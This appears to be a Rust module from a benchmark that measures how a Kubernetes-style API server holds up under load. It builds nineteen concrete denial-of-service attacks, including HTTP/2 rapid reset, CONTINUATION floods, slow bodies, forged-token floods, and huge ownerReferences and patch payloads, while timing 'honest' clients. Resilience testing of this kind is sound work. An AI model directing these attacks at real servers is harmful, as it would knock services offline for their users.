//! The attacks, one per row.

use std::iter;

use serde_json::{Value, json};

use super::victim::Victim;
use crate::attack::{Attack, Heads, Technique};
use crate::honest::Client;
use crate::request::{self, JSON};

/// The maximum number of connections of the server.
const ALL_CONNECTIONS: usize = 10_000;

/// Number of connections of a user who works as fast as possible.
const FAST: usize = 32;

/// Number of connections that wait or do not read: more than a server has seats for.
const WAITING: usize = 450;

/// Number of requests of one user to one cluster: as many as a cluster has places.
const PLACES: usize = 1000;

/// The indexed HPACK field `accept-charset:`, which is one byte, repeated to a header list of some
/// 50 KiB.
const FITTING: [u8; 1300] = [0x8f; 1300];

/// The same field, repeated to a header list of some 900 KiB.
static TOO_LONG: [u8; 22_000] = [0x8f; 22_000];

const OWNERS: usize = 20_000;

const ANNOTATIONS: usize = 6_000;

/// Size of a request line or a field that is within the limit of a head, in bytes.
const LONG: usize = 60_000;

/// An attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Scenario {
    SilentTcp,
    SilentTls,
    HeaderLists,
    Continuations,
    RapidReset,
    LongHeads,
    ForgedTokens,
    TokenReviews,
    OwnerReferences,
    JsonPatches,
    StrategicMergePatches,
    ServerSideApply,
    SlowBodies,
    FutureReads,
    UnreadLists,
    UnreadWatches,
    UnreadAnswersOfCluster,
    LargeUpdates,
    Creates,
}

impl Scenario {
    /// All attacks, in order. Those with the most lasting effects are last.
    pub(super) const ALL: [Self; 19] = [
        Self::SilentTcp,
        Self::SilentTls,
        Self::HeaderLists,
        Self::Continuations,
        Self::RapidReset,
        Self::LongHeads,
        Self::ForgedTokens,
        Self::TokenReviews,
        Self::OwnerReferences,
        Self::JsonPatches,
        Self::StrategicMergePatches,
        Self::ServerSideApply,
        Self::SlowBodies,
        Self::FutureReads,
        Self::UnreadLists,
        Self::UnreadWatches,
        Self::UnreadAnswersOfCluster,
        Self::LargeUpdates,
        Self::Creates,
    ];

    /// Returns the name in the table.
    pub(super) fn name(self) -> &'static str {
        match self {
            Self::SilentTcp => "10,000 silent TCP connections",
            Self::SilentTls => "10,000 silent TLS connections",
            Self::HeaderLists => "HTTP/2 header lists, anonymous",
            Self::Continuations => "HTTP/2 CONTINUATION, anonymous",
            Self::RapidReset => "HTTP/2 rapid reset",
            Self::LongHeads => "heads of 60 kB, anonymous",
            Self::ForgedTokens => "forged bearer tokens",
            Self::TokenReviews => "TokenReviews of forged tokens",
            Self::OwnerReferences => "20,000 ownerReferences",
            Self::JsonPatches => "JSON patches that shift arrays",
            Self::StrategicMergePatches => "large strategic merge patches",
            Self::ServerSideApply => "large server-side apply",
            Self::SlowBodies => "450 slow bodies",
            Self::FutureReads => "450 reads of a future version",
            Self::UnreadLists => "450 unread lists",
            Self::UnreadWatches => "450 unread watches, with updates",
            Self::UnreadAnswersOfCluster => "1,000 unread answers of a cluster",
            Self::LargeUpdates => "large updates by one user",
            Self::Creates => "creates by one user",
        }
    }

    /// Returns the clients that are measured.
    pub(super) fn honest(self, victim: &Victim) -> &[Client] {
        match (self, &victim.gateway) {
            (Self::UnreadAnswersOfCluster, Some(gateway)) => &gateway.honest,
            _ => &victim.honest,
        }
    }

    /// Returns the concurrent attacks on this server, or the reason why there are no attacks.
    pub(super) fn attacks(self, victim: &Victim) -> Result<Vec<Attack>, &'static str> {
        let attack = match self {
            Self::SilentTcp => victim.by_nobody(ALL_CONNECTIONS, Technique::SilentTcp),
            Self::SilentTls => victim.by_nobody(ALL_CONNECTIONS, Technique::SilentTls),
            Self::HeaderLists => {
                let heads = Heads::new(250, "/livez", &FITTING);
                victim.by_nobody(FAST, Technique::Heads(heads))
            }
            Self::Continuations => {
                let heads = Heads::new(250, "/livez", &TOO_LONG).without_end();
                victim.by_nobody(FAST, Technique::Heads(heads))
            }
            Self::RapidReset => {
                let heads = Heads::new(100_000, &victim.collection, &[]).reset();
                victim.by_user(FAST, Technique::Heads(heads))
            }
            Self::LongHeads => victim.by_nobody(FAST, long_heads(victim)),
            Self::ForgedTokens => victim.by_nobody(FAST, forged_tokens(victim)),
            Self::TokenReviews => match &victim.reviewer {
                Some(reviewer) => victim.by_nobody(FAST, token_reviews(victim, Some(reviewer))),
                None => victim.by_user(FAST, token_reviews(victim, None)),
            },
            Self::OwnerReferences => victim.by_user(FAST, owner_references(victim)),
            Self::JsonPatches => victim.by_user(FAST, json_patches(victim)),
            Self::StrategicMergePatches => victim.by_user(FAST, strategic_merge_patches(victim)),
            Self::ServerSideApply => victim.by_user(FAST, server_side_apply(victim)),
            Self::SlowBodies => victim.by_user(WAITING, slow_body(victim)),
            Self::FutureReads => {
                let path = format!("{}?resourceVersion=99999999", victim.collection);
                victim.by_user(WAITING, Technique::Requests(vec![get(victim, &path)]))
            }
            Self::UnreadLists => {
                let list = get(victim, &victim.collection);
                victim.by_user(WAITING, Technique::Unread(vec![list]))
            }
            Self::UnreadWatches => {
                let path = format!("{}?watch=true&resourceVersion=0", victim.collection);
                let watch = Technique::Unread(vec![get(victim, &path)]);
                return Ok(vec![
                    victim.by_user(WAITING, watch),
                    victim.by_user(1, updates(victim, 4_000)),
                ]);
            }
            Self::UnreadAnswersOfCluster => match &victim.gateway {
                Some(gateway) => {
                    victim.by_nobody(PLACES, Technique::Unread(vec![gateway.large.clone()]))
                }
                None => return Err("has no clusters behind it"),
            },
            Self::LargeUpdates => victim.by_user(FAST, updates(victim, 200_000)),
            Self::Creates => {
                let create = post(victim, &victim.collection, &victim.object);
                victim.by_user(FAST, Technique::Requests(vec![create]))
            }
        };
        Ok(vec![attack])
    }
}

fn long_heads(victim: &Victim) -> Technique {
    let long = "x".repeat(LONG);
    let line = get(
        victim,
        &format!("{}?labelSelector={long}", victim.collection),
    );
    let field = get(victim, &victim.collection).replacen(
        "User-Agent: bench",
        &format!("User-Agent: {long}"),
        1,
    );
    Technique::Requests(vec![line, field])
}

fn forged_tokens(victim: &Victim) -> Technique {
    let list = get(victim, &victim.collection);
    let with = |token: &String| with_token(&list, token);
    Technique::Requests(victim.forged.iter().map(with).collect())
}

fn token_reviews(victim: &Victim, reviewer: Option<&String>) -> Technique {
    let review = |token: &String| {
        let review = json!({
            "apiVersion": "authentication.k8s.io/v1", "kind": "TokenReview",
            "spec": {"token": token},
        });
        let path = "/apis/authentication.k8s.io/v1/tokenreviews";
        let request = post(victim, path, &review);
        reviewer.map_or(request.clone(), |reviewer| with_token(&request, reviewer))
    };
    Technique::Requests(victim.forged.iter().map(review).collect())
}

fn owner_references(victim: &Victim) -> Technique {
    let mut object = victim.object.clone();
    object["metadata"]["generateName"] = json!("kubeconfig-");
    object["metadata"]["ownerReferences"] = owners(0);
    Technique::Requests(vec![post(victim, &victim.collection, &object)])
}

fn owners(first: usize) -> Value {
    let owner = |number: usize| {
        json!({
            "apiVersion": "v1", "kind": "A", "name": "a",
            "uid": (first + number).to_string(),
        })
    };
    (0..OWNERS).map(owner).collect()
}

fn json_patches(victim: &Victim) -> Technique {
    let patch = |add: Value, shift: Value| {
        let operations: Vec<_> = iter::once(&add)
            .chain(iter::repeat_n(&shift, 9_000))
            .collect();
        patch(victim, "application/json-patch+json", &json!(operations))
    };
    let zeros = |count: usize| json!({"op": "add", "path": "/b", "value": vec![0; count]});
    let remove = json!({"op": "remove", "path": "/b/0"});
    let insert = json!({"op": "add", "path": "/b/0", "value": 0});
    Technique::Requests(vec![
        patch(zeros(400_000), remove),
        patch(zeros(400_000), insert),
    ])
}

fn strategic_merge_patches(victim: &Victim) -> Technique {
    let patch = |metadata: Value| {
        let body = json!({"metadata": metadata});
        patch(victim, "application/strategic-merge-patch+json", &body)
    };
    Technique::Requests(vec![
        patch(json!({"ownerReferences": owners(0)})),
        patch(json!({"annotations": annotations("a")})),
        patch(json!({"ownerReferences": owners(OWNERS)})),
        patch(json!({"annotations": annotations("b")})),
    ])
}

fn annotations(value: &str) -> Value {
    let pairs = (0..ANNOTATIONS).map(|number| (format!("a/{number}"), json!(value)));
    Value::Object(pairs.collect())
}

fn server_side_apply(victim: &Victim) -> Technique {
    let apply = |manager: &str| {
        let body = json!({
            "apiVersion": victim.object["apiVersion"], "kind": victim.object["kind"],
            "metadata": {"annotations": annotations(manager)},
        });
        let path = format!("{}?fieldManager={manager}&force=true", victim.item);
        let media_type = "application/apply-patch+yaml";
        let request = request::patch_of(&victim.endpoint, &path, media_type, &body.to_string());
        text(&request)
    };
    Technique::Requests(vec![apply("one"), apply("two")])
}

fn slow_body(victim: &Victim) -> Technique {
    let request = post(victim, &victim.collection, &victim.object);
    let (head, body) = request.split_once("\r\n\r\n").unwrap_or_default();
    let length = |bytes: usize| format!("Content-Length: {bytes}");
    let head = head.replace(&length(body.len()), &length(3_000_000));
    Technique::SlowBody(format!("{head}\r\n\r\n"))
}

/// Returns the updates of an object to a size of `bytes`.
fn updates(victim: &Victim, bytes: usize) -> Technique {
    let update = |letter: &str| {
        let annotations = json!({"a": letter.repeat(bytes)});
        let body = json!({"metadata": {"annotations": annotations}});
        patch(victim, "application/merge-patch+json", &body)
    };
    Technique::Requests(vec![update("a"), update("b")])
}

fn get(victim: &Victim, path: &str) -> String {
    text(&request::get(&victim.endpoint, path, JSON))
}

fn post(victim: &Victim, path: &str, object: &Value) -> String {
    text(&request::post(&victim.endpoint, path, &object.to_string()))
}

fn patch(victim: &Victim, media_type: &str, body: &Value) -> String {
    let endpoint = &victim.endpoint;
    let request = request::patch_of(endpoint, &victim.item, media_type, &body.to_string());
    text(&request)
}

fn with_token(request: &str, token: &str) -> String {
    text(&request::with_token(&request.to_owned().into(), token))
}

fn text(request: &[u8]) -> String {
    String::from_utf8_lossy(request).into_owned()
}
